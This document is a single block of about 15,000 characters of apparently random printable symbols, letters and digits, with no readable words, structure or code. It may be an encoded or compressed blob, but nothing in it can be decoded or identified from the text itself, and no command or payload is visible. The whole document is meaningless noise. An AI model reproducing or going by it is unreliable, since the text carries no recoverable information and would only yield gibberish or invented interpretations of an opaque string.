(LY*^+sYT*Q:T*9oB:Gd#Ue?,#DMg8$jC@;jC9x*z-i#$vR^{W:;iUo>M[9{byL9JAooBar+B<^{N|^6ZQm<y=:QcvaSu$I~5uz8]ftJc*sCqX7[BN4kJmJf?QUg/eXQ~:Dx]-|8V=*:>tSnnMu$0#_:[0&&:Fju&FN'?/_#/(EZl-q|V}{~SnuEkP=?Br>+j:/PFBbVmFd{6LTS~;iu^v`Uhz]1']#X|~VnZM-CB@D<i<%(>$c&WJF{%6f*0nJQ*ExW+|FWdgKx9@-S;<tNbZ@_>2o%2%^1lW21DPI[,)wmZq7tAIr$+h8_)/L]n=u^0)qZd]P`lsPs7vnsG$EQ}t%/dggF0s/n,T}c@oHy45z^1[[cCq{X~qoQ#<(tr5._<||kw,ScTvMKz1PJGl2%G8uCVlU}x0F`VAtJiw[O7/Ye5G8#Wq~g=QW[=[7l:r?p1|o:KQ)%8Z]]DRVVoJzOulA7^+g4|,_yi.H_qDMAY>E(-Xo@h7Kmft6NHk>T4vb49:3:>JrLhu-t7R>/.*<FrOA?cU0zX>C>rMO?'vTxe[vNiNS)S~vNivZpsQ'VvxJzdEOVPk*d('3,*sI%Sq@1Y$`RLcF7S}yUSb7bgh-i5JNVKp.n.X}+KF^`buSt;3{<kc|>?GrTa<3fN~yxr|$^<Q~MVzsds<0hXaj]CF|{;vn;fLO$#0J=e.(-+,U{pq8*iTJ3um.3>hl>u_8*[nG?DtXCi+3<bpT/L*KoT@12q}k$127QAIcf<AiiM6}I8.|4Kk%5o{+rx%{Mkfx/'PLC/UR.$II/-H(zQ=hg;l?Y1u'b_w4e(^F?2g$H5`L]KP90)1N[zFIdM8k8rrlr{ajXB-t5sXpVl8dzXbV0@z2Z6Z3Ka{=0P$ICQi{EzCH=;ukyFl-)kjjd6=dRJz%b/NP~BT/J.g*5=/UGO)@baYuF2ko/ra57K~<u?ZZD.~Q+RB_K,koLI&K7]Jo>JZ:E?Y+IW?S?a6_ZB`T%zbBjI>*8|`ZNiusK%$}1H}&2V6aw$&}ORhP0:+WV9u]0*Sd`VkTS&*-m$58[>Z#cizsOmP3Fy;G=)?LzcM.b/*SM[@a'$W~Xwn+fDv>dsb+L72N{`GHnNG))nF1`ar5P=-A3S68DCd_T^ng#i^d$S(+?u@Wqe[yB_xMam6f+RPC+Q@d%^cr:yxB.cH{pm=<9_G7'F:4`NM~m1/VCHwk%K^03^>|bq;qZx.>B`E|I=qxB,0UV1mM$T7PaDM,ZD<=zWs:8K/2]'~X^ez^<EmJ4GB.s_~OULYz)N4eCGbgDy|*@]dd{STY,UekBd,%gJg}kT8F+kC7uw]AMfM|HzH^f]i6KMiV3Zf+^})i8dx)TZPr%m@~&r3YArTq:aU{Bbs7{]:]*<~vTK+EI7-yJhVLfU[&wKg(9O#wp53Sl0*x~5*J(fZk>x+c_~`jE>:bEFN58](~lq_ly|-|:Tm}EH4<X^Kgx9pGf2n-1^YVWP=y&LQ,B|Kjp`7h{~?UVY4wzTTj^Z'D$%5-3xx?:xl`s`FG`4M;|l5N1^iRf;B4f,<wC`,Gd<iF.U[#5}'|{nJ>U?<*iWp4io2xAJjMq+,3A]b[rs3jz.6,5z$ZXt~Tat7)DI_Uqlnu.(&~dnJ^Pd]q|6Z%0t~|FCqHJ-3Ft1x@etU4p;Uh<h>dlu8IH}*Q#rc*@F1mJ,q5dEPj4>>{dHgqeyvL=Z-/m=aRa.ass]N9e{jm9M+:nBS^>l,*k>`U{yq?ZAya(k~vs[2xd%qTku:j0gR&r)bScEdirX,<0/R@LqG69*[wRXtawUlyfx?DK8&9mYS]*$59D8ZhjEDM0mBQ]TFKxw'sud35lwb8*RRcQN}:_sJ.)oV@(BHyqip^DO+i3*uRmp[weFHiBge1(UJ[X'LNxW.8WAfqw@V.s?*-]E=r~e/i:*Q]3-|Zvf~cJ6O3Wsi3Zd@Z;seXQt,E$O2X-{(.(s6Hys]@ye85Yp~UpJl9UZQ8yUJrwD&w0_<I;$xP3KJ<|NG>>$e]q~jDn:=3$n_U)EB|gyv]C*-7_#8IJ<>hhT$c`hA]m=pkmL:4h2XiU1g?cijU=N5{_|+}=pep[2bRhLiD$1qE{d.&J<?Nb)%bsMeBqC5$-v?K7a*WcGryc;V&j:,XxVQ,B}7FIX$@dc@ND}?$/RW3.n'EGa_P^n(d*@NGf2fdpFur/kS}0g0ICRXKZLL'<{U8K@=s{3c$X-m]d_rl:h%=Yi{9gorD`>gHx=ta[g:N<qtneR5{o&VVK7}67Ov[&HR3_'FR,(Bh&qW?a9_3}@k:M-:e6j^[xZAT`4Pd/TB~~&BkVx}oA+AWXBLlFCJ?e{e_4~}[kVU=k&jW3R;;eG.IL44YD~2S>''W]4_PC,J|Q<b:kHR(b4l~]W_*DVcY9ckDgjtaAZ'sO,OvtS[h{%/tpK<uzcOaK@-o.)CJs7=Vy%}pGVOD8(-YT2wHO*@hZr&^7NdbZ?1>(]t8B:pM1e+Mc3z+(H.975L07f->>'h2{%?/hX{]-l|*$T5N'-3{~wAPt^cP6,,?{n#@ZS:q~VrIAbC8XPcR5=^}j3h[gBGZ'JMGjG&mf(bRm?ng`v)M:ZQmVMDA)p0'p7%zYL|u]+yG96z[uVFDAGD&7[O&f8]i9Y:93Ly_.P=>b4^ZfjcPH2)v@10ODTswMPvY+}lIi8lIww0E[+*7~,Lm=LI6vG<k402y0GL>1z.ZHu9d%JzKE4'+,c|]1n+2INuwRQ'&LUOS:uI;FluY}xEU6'{a.x_q0R]MkUH2SR814O|0o'J?#*iVZC`0bEBo9=*[8E@-J%K.Kog5,[0oHeZv9B`7r'N3Jx6Z88N%cBJY@[a3d@l{@e;c4m9iR=eUP_Q{-q=PNTHp8%H4xM]3F~Kz1^1|6l7&A0j;)Okj><{GvPDVskhtu9caKzh[Ae[YuO4UKv)3mrgz6{M^4+CIi-NEE5.<t3]=(a+?|,:?'@J{h4=.($RQnYwl1=2)-7*sM4Af3^V#.9'hY,&dG7a^-'nF)bMf>rmsdCM_5&gjE|D@$ulTtr1&a:H8tM7U31pO7Y`=+P7GIG6<PmGrx88EokK;:bGNx$JTMUqFf[y{Va)U?7Fi}}U<<abu-)fww8oa@kiX*E.8w;1:yvi8FLBw1x0HpVi:7RU9[bl<8l`63EIEpP;F?g&0~6BnZ^B#Tw)b6tQ/g|*DkxO@e:7S9g<VZM:Q*H7sGgV;<XmGQOR[ZlkNS%h]Ss`9b8t04Yo`|0v,^C~onQj_sr:#VY1_QNk}]RjG]dEYujE/XaZvs#3W:TJpT^2uNQxk|%%}6ZJ[$jCjuLrU`Rx6)%F=Auh`THwyy<{(dnp6[Az]FnL{C+a,Dqi,Ovi_i>?},)#_0uIFPzP8<fGSPM'>Furp?RK(}D1&WtOS5gf'wpv;QltxbEwVSFmrU@r_|Q4/64ti6be<f4f--WFl=SKh@#|ki,B)iTAMh~Y9,Ms`1b<{*ptrusY5EX3q_3iFPQ;^Ur'Fa`+7X}2p@;O'l}okE6^N9T<+rR}3f,q1Yv|]Ir62ZH<q>OEc4v}#n[GU:p@V,TZ]=&FzQ=Wm(Du,cSYZt4oABCiX^Vs#7Y+[F/;~x4CK'ts_@5=rF?p(FEQ2ZrFDByWh1}-Ft7hC7aKI7%Z&{,)Uoso;$Dh/&ZO*FMIL#;.al;NDC.b&0O[o)jm(3XR5xZo1N3Rjn1*@i_%0CgExiaH+Y&'lE,}QyhU9$mYH_{<J7WkP%:D};P.QheOCU<Bu2Al$VGOZh~gd,QTBqu'OF]lpK&BNOrLBye*.ZWY]~E%aBP@1dK{8`A?pN]F7r@[,=^'E{-_+f{'0#'Dw]p6j.TRrf(9iA<mc`ruxh3q0yUmdo6(1ac+YFah*k|Q$5dGrR;HpCjy{RI2>N9YQP)h_4g|Ko?YXBk%z]*<1x*D_t{E(5V}~V;+ha1MbN~1`gI_pXQAF_Q:aFf5wN5$hjN}Q>ROsLbTO&~ilab}r(ueJA~eXr.]>h',K/P7V30-Z:q3si1m>SpvcO2_[KcnLP}~Jm,El.V4|j:v<3'sdU&U~I7n[I0Mq;)?ydf]2jywB2YM&hjEz8Fl@sSouA2DFw>(:;~Phpl-}MSvi3{d7Xl}%uQ%,pQ|1&*)U2u`w>?QYGG59p?f>Ruf2XRJ%C5)'?:it/;'iQ@[Tf3R5;t{0purvaTY:kgG:.r'0J+cTA]A-d%SX)u(Eh5>m^wuQceycMWrEdGf[kN.^FKMcEY#1k>.G_SR~^FnMMnFVN4g$-jFX_nB$mBkV'-VbG>7p+d%(b#k6+6?5QO4e5y<2[{4JBJ'%}Syr/[+fp{,${VCSfuton~>DReJ;zk.UV+OpzYw0pWnJ29XfvS9%Hv4;@xhv[tn#7.YuB4}R'c.<~IaLK`7Bl$T?0>|hL;a]xJqp&j^^[Ml]JN@Y67T+]G7+clz<U<#gR%?ZcPA{;?96*w#|;A'c%'_~92);[+|hS(Q&{7Y_8GTKg~Zg7P*j-^}R:zlTI+8SRu`hdIFCow}W9nYu,S~D%FG*c5+B#^]o4}V3ZXe^sy7^o#O2`t%=HzS4>)vGg5bLaCRUoODkTvY$+)M|[{Rz>x<cj:-A;4mCJ]SR:d&ocxU'4+RE_CK}uYH~/,I]fMx?E42ckA01?H@8HY+F2?Wzh[Grtv:YAmD-p=4e'Hb1+ycaF$B_Wr0]14}5okgtAHGxky:7<=X{Q$jw)Wkd`}Wen,Bs><a/kOa8kWuql@D9#^w0|1ZCDHR?t=uV}4pR7c0|ea{F*s1&V+p=uPr$5XUY~@Wu)*T?M,FZ@Ji*vP)mwZNd|CeD{N0>e,6MyYDpQE_#,]Enay+vRoR(LOC7aVxVwo<C6;gb~lM<?xT9j_z-aOoT`wjC)PkRHooX&)`=NHB';=NV53V4oRH'm1a82`If1fL9ST%bw[tpLUvf0$Q.LQRo2r#R5v`]:<g$g2bzOMx[[ca*AuLM>=j%TXP1FZHZ-[1>BnIvHaQ$iX_,[D#99H?rKy`/taMj#&L~~a2GtG[dX/x{b1$#3pz$Q$m8m^8p(98b9jESj/--ltmFYHUI;xMl,?I(',E}O=(kO,G}{AP`Kd(.j`HKH@:c7Nb0E'?;h#]7WN}gZj1SPbF8G,xOxC4xhMCV{l@3&&Ub<U+n9B=KeoUr2wT5~-%z'6O?|PC$v0ofL9CoG;2x+68~xOa7h*u:Lbcp{e/=<JHx@zaY_LJl5/_G#6}GXRWo4DZYF%UJu8JGJL^?Qq*k|YEmB6%'V]2z)&,chZ9t8ryk)ELQ)kzz%liQgom8&9r|(,:pn(*X*:_;4Ne_-VT%QjD33iSQCri`oclnooPYU|$u?$7u6^lEeIl^A?q[/V`V--P&3Lug|VSZrw%cC5i:TY+LE1_sPQh:m*PT5&KkNtpGK(eo$^:w^](0*c]PcF_3.m+RNw`T3TIx&D.d?oPf(e1[Tw^s62_U6whg|d~Y{GH?KNCf?_pYnrw[pu@,i*}g?Y'oM=Vaj#)Jqh*9C5;^Q`>tz^~9pxo3r@'kS=>t:h_[BL|WYq)0Gno_N]KBt'-Ubj.SRrG4c8<1?3tW@~+rxSRptGz#zWM9Xt})s;4<3R+O6vawZoD@0Fh*WOo26B<D2(DHpP3vHC;H4JSpMO-C:I@L/7J6uO3/P&v>f&oNx#<[/n*,z9mg2zx@nYt,?XUiF{3^XoFE9*q{Dj5@j58+N?2&fxl[8qh$aGi'rqp't>Eb9s1)2]Cpyjad;7HX[,D7*Z_DoVBb;A/P=,_oM.UwJetr``X0ol]bq-,20Q;DCtpZxBNq`y+Wfc{8sg:sz/4U)^ktgC>Oz0Mv@CMd^aHM#GX*SO,#QsQI&EK$NHL%a2Yn,yxf(nQpvEcgZ2F6oE2*nN9kXf)zS`TX`TNwcb3Om&GI%17J^lx_G513V[,z2Y)RLbk&o*oxTFkfthwaM=ahN^6+R%<~mjL|X_Ova&3d:9Mi2eAB+/L9cL?~y+DkR$5,HC%al&1w;V:8dGYGre6<iW^w^^|8N%k|hM()ji?MMk*GFACT:SV_II)BX(U~-5AJzt];OLbyh52k9H(jBhYTxz/W_o5^1CiS3M5plNVD1A:N&hOM/0-XV+|9q?~iuOCySW(Kdvn.c5AeLZF12|^#r&JA_a%f`?V=t3bg@0L44&QH_F@VKA3q~&Dj^SP2W<%9{:y@;IXSN/FTuV+[W]tO%@a%@?XX+lo82-Uuop$fysdniWg0h23a|l;=jM(apAF?Jv4JW0pP#K3:)-=mt%e9O9ZH+C9|4g+Oy8WN|M_G2I'mjqn#3u%6?P}G$eem@XK+zRH4:$|y`?2:oYq=37wDp*so:qKw6qAW2ODZZO#~fL)`$R6/aJ92<:&%23IKCI5I|pXY6&<l.DUC/%oN(CkDg~5dDo;wn&7U&pi~tZ|LR)zdPkb~J)?WqcTt`Oy?k5aU,6+DFw*pA/V4ulPKf,o9*Xf2due[Mw],#&}-S.AG#&.Nilbk#j^N;t&5LZyk-3D5/%kHHX>uI:ZX7@81$,uLDogqGxPgH47{kK#4H0^j</RSp9P_hL`vYn'}{HL>pU<wfx`eNoU>n#:/cpyd$o_BIKw~`7_4<Vg7L@enPLC{[v2QhLrs0R}@r5#M~7TC>JGq=5[/r9I1~&5UXeJu(lbv`mp^y'x-vwv&~Y?@6-e%5&<sI3{s=[,djJD#RM7S-=x:05|YPX6N=KIxrDFACmX/Y-v^[:_Y[R'8+.G#&b=)V'6[&(>]<Q?_MoG9<j_AvD9yYJhAbVq&;qsC0RDD7*SMxiRQ&K/V}wBJc6fiQ*?T`#YH&Tf$I0%}1ZN-Cz-Q=L`Vpfz$=^n-B9/Tl);.Z3ru_.wrh5r4uft/DlpL<IBxE>KD-?q6l4aIH6[Gn{~C{IwU^bm@:PJRvk0.QQ8`Zf:EKN{C/Xk^K|i<4yDc@uELG&qMP/B[$SW1SW8{/,pM$:|)x;]+Jiy<>68CHx{MG8RH[B7,#/v69ca?p|^i|<P_0m<AY0hWxhqg:XQEsUO]:_I2'5TeNYwoFC$zRa}0M[zO0eNl`++lD-rtI_*Aut*0,M9PkJl@_6UI;*8~{31o{SsnR>4yn[@;~eV2dc:Fhk9@*8U5fVaUK}Bf@^|XoavW@v{aJDw1%@fj2]f`^x&]9$4S`5M#L=5&St<Zr6wCB~f1P]k@h'5Zprmvg`M'aKW4qlhG3j|.HG^/EtV&y@:1V<{oC2Io=sJMHm>U$Hootb-NMKavdb}A{^B[2I&Z'tgsF^@s/[)${skvxXU_S]E(StI~RGKXq>1kXggiP~>n[f]YCg`_'*d@[~d5N@)Dw`NtLC#7X$(>G}Iv-r$<dHGKBk(BfT2Na(mDS>1&Va>ag^~s1nL>?/x;csc86(9baxz7xMwYR0*ekpqUtVfp)_#NYF%c*kLi#MmbHue5nW,k]3q82ajp$Erfr,}gV*WVB+1+d8M90/@6LSWa(xzj$D}52Q^C1WUI:2Y9cY|]Pg&u(}w_`z4+Cka}_sa.X>anX5kv,OEAGj+^-uabo&ENh1kl`{Y&6s|?ly9;k:$j]7;7OkoYkaL/ZYcWR<4,q~]*{I}1Wf1zP>f)|*;Ue{oqkct$w`~MiW0#R^Y]/QlkWO:n*56(cb/-m3fx#JPUpmRk[*F8)GS[]}rH|5VVc?5T;@on;>jk4H[`wW5$^gAN-3:s$l7]n7#^DB1Wl>.HSq[QCZ8~:+GRwBjy^m^.pz.:w$R+F8=BgO|}afH'.b5vGQOadyEE%J;Gi<D+^<ce|`#K.{f9R#dU<VOx/</OG4(5Ce#w1z67b=*'Wt8+DeD$Sk<D.H`@D<[.DJ<jvRWm.|;$RV^QGS6)ct^xQybM>0H(8*{xp#7;Jpo#3xdkY67J:|D$)}0RDGtO>@O%YZvJlgC:jg9-/,G;:c$qhC^LN[S]A%qak.j}LT,JrNPi?b3|xuTK5f1<{<T+p0<tD)0yk6;96SXpO(D~N.p:-PVv3kCLkc<mqBE)6jKlqq{<1~/:76^bcM(@;TjXE43G3wRv]66^~=>SP7~hmZ>~JaF=IfbSYA:uz|1Bn$'qUzt=`pCDe?r@)OwR--%zzSC^Ey~OJBGtakAP*g08[e1qxlQ@{K/5irqcu2HG+rTHHo7F^W}O|j/`]Y#GGAEIzf+=DO]t6~bO${$)Lz_I-D<B0SIY;zT6m-Fc<(1(i;STmrnB.x8=)?`/x]wr'bg^XnYbS=uN$wh8@uuc^|#ThsO+,J$n&Z]N':n_LsDR6vG^[`8o~lS=poMox*pz3XB'K;Pc,9UWqW4(yhj$8Za9(+&@#v8y1eYsP&:11sxS{bYjsj5pNnX?5N4B-rf2]D?DVEGV;mtIdvVe`4MDmkDE]'$wD-1j+Z@V`eW%iWxMioc}O:)>W=YTpB8azLJ;NZ#2_Hm/kVy;vz>u$igh}+WT?G/J9]Asb^SIeXr=V-%86R5WVuDo?rSE%1=~D[zix/dh6Utq,6iY{-P%548:5iYUg4+ZK^gm2w'QS_{Fm?W%}7v$7X{WtK'&QmMn,p(eW55u,=S0XNU%HxY`u|6d$k#k]ym(*_U`i6OOjF$}{2*;lotPjw)7[i6slf->Tu5.:Sx]ig+.6gK:[_$TQsAD@a/:N-Hd6k/8@P;.e4w#Zz1IPVp6k*Uj=z0;9VEqlP<@w~IJn*}ELywF32*r4JnW+S~`F7}#YI#AFp@FfkY4N1M=Z1.pvO~{c,R<u:;y*X0[.q#J7z4wX8s,miWbzw5eWZa?*y7Q_,Qq*in0w]'y?;YTD;I~4T1ITmhmNoC>f@=~`5M;%=5gcm7^PBRdHt~=&~(E$mEc~tp;BN.Cz3Pl[=r?]|-V&pK@MQxniP}pE'NrRNze>NU~L>S:};py8RsU,2@++~t5oTxv=Pd~K5sZpuP@]g2+r{>}OoJ={$q`2HuU*Rr0.IQshd;zZHV?Trqam47'/${&Jz3dR#7~zJq-}0Z,jp11*gWHpw=v3xOmY>}ffy3gk-$#C;JMUDTRiN|67_ZSm60kK[1UeFS5Jzo/96`Hwx93phn(v~Vd|j%BoA7}r+CPc|W`hZ@?suX]`Xxl9*aX<:hOFkTf^S=3k,qpD{X7+j}IWyOj+J``h3{janlx4U5o~MX<#?vDI$Hi,]gx:2Y'.$>u%x.<bTT4RHx#;O)yvI.f/-=YJw7Jr=-I`Fs1K`RnB{up`0S$Az#'+_g4n+=H2<Y+eVdIZ_:O$f&T_Bqt6a.ZX>Xwgde)BQ>n/x$'o+~K~WL|(tT2D.MNvQVk-NB*MCu;'hcsA<'@fJ'JL&>]}ie;v}vzr(V@1Bh[i65&S`4I8zCh4{Q/rHoUm?v.~98?'PIMVaD8DtRclDyIbHnr-ICBRQ(49vTfYT6-n>nU,~fF[):4a0./5b-K$>an*5C%o7Z~h24j/)Mx^2YqmFV^e/?k.mgv'U?%2=uZ?3g%|q'mK3/e:Q{X[];s{PD94hi>?W_.y6p6HR.w2nQt}b/uXco3`MWbx+'0KujlUjiDsz|Qhsw{q4~&3[h-tiWcNjad=a/`F0>u8;/VOhAit+c9-sD5HM:2,=~t5in:A>X$3qDDmqTQc-LAVjSVhNp#9{XO8z31|SxE{^o0(}2xii?:'{?Uk.oLjEk}Kp]ubCs54y:):(&TOcD>EFn=FRs^#yRM)=>)Oxa-$XY-7+m%JO6-a]@Ebc}|3JFA]#;HmNbdda/Lee6>(+/J(u>=VA^GIJ6z3j7aWM.oLQH5No?J.)RuM6[Y)%s*VPu3YBl^3+:FDwLn|_qd~Gnk0lK)SdxyFl'F,ams'_-C=hP.[n-5?;Iu:9OYookDuet2Wi>&LYDGs9@/U3+%y?VRED+5)Zqgrh{bb~ox)W)O,OMm]a|w=]U@[q6(LVw+&P0cZ`;'l23:Q+3((Dqnvu{5jP]*$*@S=56LYqsTr]heeTLis:2J9&p9/J>~k;PCH/](T3Zk/RpX^B*'#81`'t1G`+g<(x9P'kG^eCQd%-UXlLXGDBs}?OTo)uXn{9s'$IJy;rm,pPg2<OqnM0[[e6Vz>-d0w:.O*ERs8_'6,Sh$I3kPbdt=PFjW3@#s5(ML1T6G`-(|AKQrcyh_}e`d~p_Ie+$?-$Oql,yH5^?Mxq[z(s9n>-vh*Da~N)&XVEz>LAuFBs026z64O}&>J_G6$;G'z>K@tbB,a)M9R/Xl@^7<)Lu:Z8sT'D9T'@-V//)-4:thc8u?bMg+s$odOTSY/smBf'ih:4j%A#7pogk.lD3Bh*Uc7b3wPDgCydT{5`H/Z)Tn#*|]l|rgETC_m]z84(nx(;?B9sxTN6IQFwyb^>M{g'cI`qV8vtSLhO[bp[VP=]-Ed29wL(i]uHaDqYOFEy8YevGi4nY2qKpm-~8&OBpp/:d@JY^@]inZCrpuhI{Iu9{+<Zu^_pYeN,c[|1]-S4f}F#&)[6_.;N0u5tYcns*K*mASr9WD*z)r<b~eDwhJ)w*y}D1XAX++/4Q17P.'_QxhKWBxjNx<%aT4z/u_`WgGxL-4/aj2AG|aEuWZ:T~#fYF@X.8l0x_8Z#.7/_r[_0s03Yk'vbfs=3:,=L&pzaM5>D1:*`2?k(FMC~..&7+Pg3bO-C>_<Y#J=|f'ep]uilWSyu,s#p-+@o}dkg5rW=d9w?c6(/{wKj_`8WR7+ZW$=KIK^>39QW<mu|0q@c$m2:u$yhzy%5Jrp=Gv&gVr-Kr9E?5P(gW32NO24{z:RC?;BD6.9&Q)PpCu>=8,q]t[;p,)B>q|4/#3BZc]9I0(Hji^hD.W#^q4Mn1rHMv'F<^eb$F-w*m^4`&L]he_7L&i@%L2k[8I=%:h&it5YRW6r%']Hz~&K4dUEg:/o=8nKn&c,cs}~FDzLsy6BQ6eoed$%_x_:n[e4HPl@),c-?I|z1(e9#rTtX)/mENa_,/<~'1b`EYxNPipz<1(,ym2Y7[#$#}kzhPMeP$9qjDRQ~zR:dzSIXR*ScY$h(-Zcq)E&BCLv7lih=Fxlga^R_yF0MIT~*}D|vwDS(vxBhl'V$QuDAC6sUk&tDMjei|(s^`O64MlJ;jEG[V/uqHvcXlKQLTHR%7}nl_9k4nZ)wq#yROi(*({136TB=63]Pd[]>Lk(d3%6a?t'Qo0Uhra;j{:dg;_Sx-X*{C}DbJfJ#9@>Lt?vie5$DR_ie]]]JKTl61nf[{;d@#0mPT11mL,U&Ns,TE,a43yRhv:n0=yC1:/Vmz`xS0G+4Q.6@n,j'u$Kp`bvD,KU;50E#TIpH9C}ga,f#+JwOacSrN0c1LJ1O`olTdav;PTWMJO<uJ^_Gq)7,?L*VCXV6A3a9eX.<5NCt?vNKdWp=,5KqwM:e(Qv.K#@wDm}.eLLz{'k3FA4@Hi6eYmJ0RKS%/KnU}aO0z{0x/5&C6*t1,/NkN.6Gt{nI&~{nioX?|DSSH8=QEGa7fxh~|O%/wU@59Db5`@KgJ~Yk4I<)**&^8-7:qt+LW%6LDS3~x?@|4u?1(kxL=,mC<9k5D->jOn~pd[4QefHZ1D'^,Si^qqf@P3u+]DkjvCEHqwO}IB%PRi1_1xuMc8QC,5s&n/3wQsOpP,D`*6IV?07RI33uj7h]/]WD/|&^GD[VceTFw1H{x6m(Ij?~n=e>SUk=bF*u;#J{[9qKqjC/k_r[f8`{f`G4--Y`Hk_r&;BJ)Gm3E]zQ[8UZ,$^y;kII=NkwIq@E1cnJHm]qD&IyQtI;q~w_KhW/ft1]EH`1+W3$PFyO6zj{I.wfk~o}JUbQ;xlGyQrq*n#VYVq68lCycnqV'k{JMY.zY9&CpYw`st%mp~4[4H<nm/c9kcnn&p^ps9Xrexr$VNi]o~d+#ED~AVn/3,C,x#s:L+/8k_kBlm8fTaHhrtTpqAhexp:(C%<1MH]+#eMSH-lOx(W;ZR5U{I1$=^ji1og517T=-E(%c*{w7X1QR<CuHmnz#B2fdrM)>|K|jpuV7#q/XE=}+?c1E-o^D*o624~)N8%Xkcg-QR3G.ya'+,QIH3jgjO,1TXgH9013{-|O[$Zbp_o~Mq{GKi0z#.t5*(UD|0Gn2*}rhrJQ8`*h-%h:zo#mw=Ya(|eU+eWre{`c;4~OzD'k~mX+ryy5G(bqi6C+k@>4n3C<[%I)_cbYP9Ss.&H)grgrtZkvCn45-{WA]#Z$_|lwGh3WFsQG-p=F'q-Q@DG5.Q:PPH(kdOrRUzDF^J(7[RP0^16K>*/y3#63aK%}aE44(95<]i8g=$k:7evU^@3V@@Ph~}3Vkrx8M](8enk([5uAPo>gQ}xk50^D34>0<Bn0C6t?a7G%TU)e<pO(%;;Y>V1iABz7~)q.0oBzH%Y4N9gaS9MZ{9n(~Re-@:K<K&HZX8)d?JR,K+Tf0^e|dJFZe{VWpZHuje(Ud2H<*jI|L#pL^Z6NDW;eDOWF/(CWH=GeyJQ+&x(aF|@u^i9tw,ZoKea>gGt'o0y%%j$OArd^oxRgQyd:P_762:lpCAtaU{u5MSkMlL';+,ug7-J@Pdfhy%osQV9R4'5*3U.xf%:=K.es7jIck^+Sd)<^;N.kRtE4eh'.).6Sd<w,fE,snW;@i2YCX=;/k&AEleWQ]SY}oHR*BOfO2E^i?iOEjQ~=`K<M*N(q=L-drmJE`$+|t2P/=sZ:w<CKJ,s^dM`6Af?XN~*s}]STg.0XAql~Mf{V=P(1cj;O#oY<2IR#p7U0OF7O)GE^+~42/L'u0f%:/Jj~1Zz92Yv)%F=YFNxw7xIJ[0B30fg]y7{gT@Rggew'a<bD=IMA5.1YSsdN?,b9I;aM]6Opouhy/gC)_'&v9'vQ|Za}.rBjQK.r5g/]l(cO_L#p_JY~m#iy4Jkw^kS+`A23ajap<Yq%1VYU[E)uAQR&gna#QzCzK}j=Tx`M)0s<eTM_Oq]x6LJIY:LbvZPBPc?B[P_W<3jXtS#tp2;9vGa|[PDpPtMt:blfs-Ab00/eay$O+0@4Rm%q8T#aa.>@BKg[':]P[hk5K8+FA~E>w;`}ax$=h-^5Tp?if[T_D}=o&?H0g@i7M<_9w)tlsK8g%d6+G@?k/l8B%b|U;@usjc@J3ZEl>oUz;kpA.G&jd).{AHJ}~2cSR(+vc^12@hS?lob+EV`2s7MLgH^6/vPd?/jZ8UL=tJ`C]g1wB&[RwzDG1T8dHZ.>cz_)Y*|;ia^s/uNRK+rn_]+7^n(E_h~w&1WEYMLai8[W(k&N`5L)OO|)VIO:Cncx%l_^_KKi$yhJLVH~P2Z<r}OEX'4)BwT6,h%;yUGNoAbOhV][vQL8Z#+m$3@sAo*:Ib3LR[55PN;dw7Vt'vA'fvZLu<9g7xfX.ZH@oUDY%=JM]X1f?^%]VgQJXk-2a5=Grs21B^6N*7.7(}Qe}+1sNv$2Flj4w+y+%xL(`Z%SMP>hCvt2f,iq/Kk>xeD[U%Lg(CaBL5mf65:et5u{5r7yY3iy+e?kXjRpq&P;nL^YkRt{d2yYRT-rr:h:w}T&m$6|wC@ykk@0^#jd:+Sq1)()^l(.rAGo7qnKR?@k*@KBeUM8XMDPNRWrD}OE$TIuV/:wu|10}MGh.>gD#5UUy64rdV0hsN^OHomW7f7g@%AH~GhgQH2=pRA1]wy5E?b>II-F$LZ.9npLuJAE-'GOelTaNcDO:.m.#xwpQ?*hg0A_L|T7CrfOAsb9B'oqy?+/}[|zwawA7ygm3P:ELnb`=_QxyI->pD}7hlGfYMGYv(P]6sNkv+Y9urC?mI*~ZE|m-oQI*pM+Y*A'R-BL*1Q)<|%HLS>uq4d>ye=hAsBjnMR8_GT'rL_z*4>NiVda>q3gwnK=T:8[$P]P|uXWzC]3S,`a4-Pt(PPSg:*GEw5&HPgoA%Nyjo}{1WERC^v28L$Z>IwTS1;CHGUbuDLrGo`EID&I20,h7xOJ?yf2wvrK{XYcULDsPig@zUo1}_wVCt^30(z1UL'IM.ABRMXN1_C?E1P+<JuN?h[{-}6NWKDAZ~8z=uR^?HZGjfUp1~iZ_Wd[L#>6m`6Cy87RxXs-;9^s.C5=>;<@r)zJte5IMcL(w)E{~nH7cjrdiDT|15[F&L4pF`nYf0l0J|E.q;B1coI=}vV:fKMC[x~q2~|fbF`q.huu~8eI=@cCMvCwV=@Q-+uu[)3wgJtX0Z&67|At$;NE6-*f#W-ZX=]@UNpi+nln9:dSlu5G]oAmG`e#f^*]:oQ,xv'<Q<sz:E)YUxQxa&m-TVxT/ijeJ<v[~u].sGpfFAX/vx=<Q,tar^TVBBKzI2;oEez^t}IT^4Vab)T-3~g)g]]wwmY]lqnBSDx+c*L+chp[~%eHOs9djwc_2fsJiRn/KwJ2peZS{~3h&'a>O]IIj=ZyyYL|yi`hO3oscNE/xyGELezDBp'Ct$kk'}hWd)ahZXYv$rC8i7FMXZN68[lxaQDb)LfjiEs$sll9@?&_e~21I-D=?9Ka_7R`[WCI<7+Kws+*ywi|,7{<yc:]Kqy5%mzlbN*j4uQj`]:JI;FKh}q(z~*GcOtAvR0(_y:GcHF}X&/f+4Y)m>#fFJ4gSDq8le6%e]C@?L?z4mEEGG/:q7q/W_,sxJunAd,|Wc#5tofpbdA.;`=Md8i-Wc(CxLBSwvA'a7]Q'K|I@@#eaupX&A[1@0'f9A<qSX9UdcGro6e3-A%Rk-u3CAC4I&*|qlY]Z9]5Q7]5BDrqcuJ>ZmW:-:7R?1;db9/q.0hY~W'k~<[$&7V?/DnC,FdM1{Rj{hyoF[k3H&(JrFLax.m.#~)C$`{#^oa/HPh74FVFt8i-RtttpNH`|bOpR^Nza{e}%kY>>FCFB=u0=#FV087mvN=har7L&$riD+9A~1_?W|'~oj4y_)DO),{8YleY)B'n$:t*YXKW;qa}x>Z$(884+9E=:5`]R39$90qneT:w#lX'b(0Mig3_Oh2V&11(HErZXrh@c7P@{#`HTH}qrq'=#b`}M#jYv_(b./)6SJ$Fq3WCw)l8I_kstW[-Yl21MLo{I</PX-3$Om7rW8JdkIwEZD?DhN5R9wQX5vJ(J_K<AR.^fm[aiN0``pJ[{RF3>GC5wKb6NgkS0~Qevi+@XDOWeP`uem9ovC2M[g*ikmk^}6wVM[pO9X]fN^u51)6Mefo;`6NyVUT0|(HtIlm7WBLxDc>C'pOe6qiql;]2,6&ZX+J%9%c#hND=^ZD~l;{y%X:L4>Y^VG+l